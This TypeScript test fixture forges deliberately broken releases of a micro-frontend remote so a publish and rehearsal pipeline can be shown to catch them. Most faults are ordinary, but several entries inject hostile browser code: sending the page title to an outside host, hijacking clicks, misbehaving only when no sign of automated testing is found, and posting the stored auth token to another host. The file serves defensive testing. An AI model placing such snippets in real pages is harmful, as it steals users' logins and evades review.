import { randomBytes } from 'node:crypto';
import { appendFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Release } from '@fan-base/shared-contracts/release';
import { computeIntegrity } from '@fan-base/shared-releases/integrity';
import { makeBuild } from '@fan-base/shared-releases/testing/make-build';
import { throwingCode } from '../faults/throwing.ts';
import { changeDescription, changeScripts, changeServer, releaseIn } from '../forge.ts';

/** What stops a broken version. */
export type Stop = 'publish' | 'rehearsal';

/** A version that is broken on purpose. All are made of mf-alpha. */
export interface BrokenVersion {
  readonly name: string;
  readonly stop: Stop;
  /** Breaks a copy of the working tree's release. */
  readonly forge: (folder: string, version: string) => void;
  /** Build of another remote that is published before. */
  readonly neighbor?: () => string;
  /** Breaks the published version, as a change in the store or in transit does. */
  readonly tamper?: (folder: string) => void;
  /** The message to its team. */
  readonly words: RegExp;
  /** Seen in the browser only: not tried without one. */
  readonly needsBrowser?: boolean;
  /** Faults of one group do not hide or imply each other: tests rehearse one version that has them all. */
  readonly group?: 'in the description' | 'in the remote' | 'in the page' | 'in scripts' | 'at first sight';
}

const remote = 'mf-alpha';
const pageChunk = /^page-alpha\./;

/** Code that runs when the page's chunk is loaded in a browser. */
const inPage = (code: string) => (folder: string) =>
  changeScripts(folder, (source, file) => (pageChunk.test(file) ? `${code};${source}` : source));

/** The page, or the widget, throws or hangs in the browser. */
const inBrowser = (throwing: Parameters<typeof throwingCode>[1]) => (folder: string) => {
  const container = releaseIn(folder).container?.name ?? '';
  changeScripts(folder, (source, file) =>
    pageChunk.test(file) ? throwingCode(container, throwing, source) : source,
  );
};

/** Statements that the page runs whenever it is rendered on the server. */
const onServer = (body: string) => (folder: string, version: string) =>
  changeServer(
    folder,
    version,
    (source) => `${source}
;{const { remote } = module.exports;
const all = [];
const alpha = remote.pages.alpha;
const load = async () => { const loaded = await alpha.load(); return { ...loaded, Page(props) { ${body}; return require('react').createElement(loaded.Page, props); } }; };
module.exports = { ...module.exports, remote: { ...remote, pages: { ...remote.pages, alpha: { ...alpha, load } } } };}`,
  );

const described = (change: (release: Release) => Partial<Release>) => (folder: string) =>
  changeDescription(folder, change(releaseIn(folder)));

/** Adds a page with its own address. */
const withPage = (da: string, en: string) =>
  described(({ pages }) => ({ pages: { ...pages, 'alpha-extra': { path: { da, en } } } }));

/** Adds a script of random text, which cannot be compressed, and its hash. */
function addScript(folder: string, file: string, bytes: number): void {
  const content = Buffer.from(`/*${randomBytes(bytes / 2).toString('hex')}*/`);
  writeFileSync(join(folder, 'web', file), content);
  const release = releaseIn(folder);
  changeDescription(folder, {
    integrity: { ...release.integrity, [file]: computeIntegrity(content) },
    bytes: { ...release.bytes, [file]: bytes / 2 },
  });
}

const hugeBytes = 912 * 1024;

const fileOf = (folder: string, chunk: string): string => {
  const { container, chunks } = releaseIn(folder);
  return join(folder, 'web', (chunk === 'entry' ? container?.file : chunks[chunk]?.[0]) ?? '');
};
const tamperWith = (chunk: string) => (folder: string) => {
  const file = fileOf(folder, chunk);
  appendFileSync(file, ';globalThis.__tampered=1');
  // The compressed variants have the published code.
  for (const packed of ['.br', '.gz']) rmSync(file + packed, { force: true });
};

/**
 * All but two ways in which the review of 24 November broke versions (those two do not become a build), and one more.
 */
export const brokenVersions: readonly BrokenVersion[] = [
  {
    name: 'throws on the server',
    stop: 'rehearsal',
    forge: onServer('throw new Error("boom on the server")'),
    words: /page alpha \(da\) throws on the server: .*boom on the server/,
  },
  {
    name: 'reads a query parameter that its page does not declare',
    stop: 'rehearsal',
    forge: onServer('props.query.get("number")'),
    words: /page alpha \(da\) throws on the server: .*reads the query parameter number without declaring it/,
  },
  {
    name: 'hangs on the server',
    stop: 'rehearsal',
    forge: onServer('for (;;);'),
    words: /page alpha \(da\) hangs on the server/,
  },
  {
    name: 'leaks on the server',
    stop: 'rehearsal',
    forge: onServer('all.push(new Array(600000).fill(all.length))'),
    words: /it leaks on the server/,
  },
  {
    name: 'has a class name without a prefix',
    stop: 'rehearsal',
    forge: onServer(
      "return require('react').createElement('div', { className: 'table' }, require('react').createElement(loaded.Page, props))",
    ),
    words: /page alpha \(da\) has the class table, which can collide with other teams'/,
    group: 'in the remote',
  },
  {
    name: 'throws in the browser',
    stop: 'rehearsal',
    forge: inBrowser('on render'),
    words: /page alpha \(da\) has failures in the browser: .*threw-on-render/,
    needsBrowser: true,
    group: 'at first sight',
  },
  {
    name: 'hangs in the browser',
    stop: 'rehearsal',
    forge: inBrowser('in an effect, without end'),
    words: /page alpha \((?:da|en)\) hangs in the browser/,
    needsBrowser: true,
  },
  {
    name: 'needs another version of React',
    stop: 'publish',
    forge: described(({ singletons }) => ({ singletons: { ...singletons, react: '^99.0.0' } })),
    words: /mf-alpha \S+ needs react \^99\.0\.0, shell \S+ has/,
    group: 'in the description',
  },
  {
    name: 'exports no remote',
    stop: 'publish',
    forge: (folder, version) => changeServer(folder, version, () => 'module.exports = {};'),
    words: /it is not a remote/,
  },
  {
    name: 'lacks translations',
    stop: 'publish',
    forge: (folder, version) =>
      changeServer(
        folder,
        version,
        (source) =>
          `${source}\n;{const { remote } = module.exports; module.exports = { ...module.exports, remote: { ...remote, messages: async (language) => language === 'da' ? { ...(await remote.messages('da')), extra: 'x' } : remote.messages(language) } };}`,
      ),
    words: /the English messages lack extra/,
    group: 'in the description',
  },
  {
    name: 'takes the address of a specified page',
    stop: 'publish',
    forge: withPage('/login', '/login'),
    words: /its page alpha-extra \(\/login, \/login\) takes the key or address of login/,
    group: 'in the description',
  },
  {
    name: 'takes the address of the page of another remote',
    stop: 'rehearsal',
    neighbor: () =>
      makeBuild('mf-other', '1.0.0', 'other', {
        pages: { other: { path: { da: '/ekstra', en: '/extra' } } },
        server:
          "module.exports = { remote: { name: 'mf-other', pages: {}, widgets: {}, messages: async () => ({}) } };",
      }),
    forge: withPage('/ekstra', '/extra'),
    words: /its page alpha-extra .* is taken: mf-other/,
    group: 'in the remote',
  },
  {
    name: 'drops a widget that a page places',
    stop: 'rehearsal',
    forge: described(({ provides, widgets: { headlines: _dropped, ...widgets } }) => {
      const { headlines: _too, ...provided } = provides?.widgets ?? {};
      return { widgets, ...(provides && { provides: { ...provides, widgets: provided } }) };
    }),
    words: /places headlines of mf-alpha; \S+ does not have it/,
    group: 'in the remote',
  },
  {
    name: 'uses a hook that the shell does not have yet',
    stop: 'publish',
    forge: described(({ uses }) => {
      const module = '@fan-base/shared-contracts/shell';
      const exports = { ...uses?.exports, [module]: [...(uses?.exports[module] ?? []), 'useProductName'] };
      return uses ? { uses: { ...uses, exports } } : {};
    }),
    words: /uses useProductName of @fan-base\/shared-contracts\/shell; shell \S+ does not have it/,
    group: 'in the description',
  },
  {
    name: 'has another entry than was built',
    stop: 'publish',
    forge: tamperWith('entry'),
    words: /remoteEntry\S* (?:is not what was published|does not match)/,
  },
  {
    name: 'has another chunk than was published',
    stop: 'rehearsal',
    forge: () => {},
    tamper: tamperWith('page-alpha'),
    words: /page alpha \(da\) has failures in the browser: .*integrity-mismatch/,
    needsBrowser: true,
  },
  {
    name: 'loads 456 KiB with the page',
    stop: 'publish',
    forge: (folder) => {
      addScript(folder, 'huge.js', hugeBytes);
      described(({ chunks }) => ({
        chunks: { ...chunks, 'page-alpha': [...(chunks['page-alpha'] ?? []), 'huge.js'] },
      }))(folder);
    },
    words: /page alpha weighs \S+ KiB, the budget is 36 KiB/,
    group: 'in the description',
  },
  {
    name: 'loads 456 KiB after the page',
    stop: 'rehearsal',
    forge: (folder, version) => {
      addScript(folder, 'huge.js', hugeBytes);
      inPage(`fetch('/assets/${remote}/${version}/web/huge.js').then((answer) => answer.text())`)(folder);
    },
    words: /page alpha \(da\) fetches \S+ KiB of script/,
    needsBrowser: true,
    group: 'in the page',
  },
  {
    name: 'executes 612 KiB that compress well',
    stop: 'rehearsal',
    forge: (folder) =>
      changeScripts(folder, (source, file) =>
        pageChunk.test(file)
          ? `${'globalThis.__n=1+1;'.repeat(33_000)}delete globalThis.__n;${source}`
          : source,
      ),
    words: /page alpha \(da\) executes \S+ KiB of script/,
    needsBrowser: true,
    group: 'in scripts',
  },
  {
    name: 'styles the whole page',
    stop: 'rehearsal',
    forge: inPage(
      "document.head.append(Object.assign(document.createElement('style'),{textContent:'a,p,h2{color:#ff00ff!important;font-size:40px!important}'}))",
    ),
    words: /page alpha \(da\) changes styles outside of its region/,
    needsBrowser: true,
    group: 'in the page',
  },
  {
    name: 'captures every click, and changes the title by an interval',
    stop: 'rehearsal',
    forge: inPage(
      "document.addEventListener('click',(event)=>{event.preventDefault();event.stopImmediatePropagation()},true);setInterval(()=>{document.title='hacked'},500)",
    ),
    words: /page alpha \(da\) (?:leaves listeners behind: click on document|blocks a link of the menu)/,
    needsBrowser: true,
    group: 'in scripts',
  },
  {
    name: 'covers the page',
    stop: 'rehearsal',
    forge: inPage(
      "(()=>{const box=document.createElement('div');box.className='overlay';box.style.cssText='position:fixed;inset:0;z-index:9999;background:#0008';document.body.append(box)})()",
    ),
    words: /page alpha \(da\) covers 100 % of the screen/,
    needsBrowser: true,
    group: 'at first sight',
  },
  {
    name: 'sends out the title by a window',
    stop: 'rehearsal',
    forge: inPage("open('http://elsewhere.example/?'+document.title)"),
    words: /page alpha \(da\) tries to leave the site: (?:a new window|http:\/\/elsewhere\.example)/,
    needsBrowser: true,
    group: 'in scripts',
  },
  {
    name: 'sends out the title by a navigation',
    stop: 'rehearsal',
    forge: inPage("addEventListener('resize',()=>{location='http://elsewhere.example/'},{once:true})"),
    words: /page alpha \(da\) tries to leave the site: http:\/\/elsewhere\.example/,
    needsBrowser: true,
    group: 'at first sight',
  },
  {
    name: 'behaves well if it finds a sign that it is watched',
    stop: 'rehearsal',
    forge: inPage(
      "if(!navigator.webdriver&&!/Headless/.test(navigator.userAgent)&&!Object.getOwnPropertyNames(globalThis).some((key)=>/rehears|trace|^__p/i.test(key)))document.addEventListener('click',(event)=>{event.preventDefault();event.stopImmediatePropagation()},true)",
    ),
    words: /page alpha \(da\) (?:leaves listeners behind: click on document|blocks a link of the menu)/,
    needsBrowser: true,
    group: 'in the page',
  },
  {
    name: 'is wider than a phone',
    stop: 'rehearsal',
    forge: inPage(
      "(()=>{const box=document.createElement('div');box.style.cssText='width:3000px;height:10px';document.body.append(box)})()",
    ),
    words: /page alpha \(da\) is 2680 px wider than a screen of 320 px/,
    needsBrowser: true,
    group: 'in the page',
  },
  {
    name: 'reads the login and posts it to another host',
    stop: 'rehearsal',
    forge: inPage(
      "fetch('https://example.com/',{method:'POST',body:localStorage.getItem('auth_token')}).catch(()=>{})",
    ),
    words: /page alpha \(da\) reads localStorage, which belongs to the shell/,
    needsBrowser: true,
    group: 'in the page',
  },
];
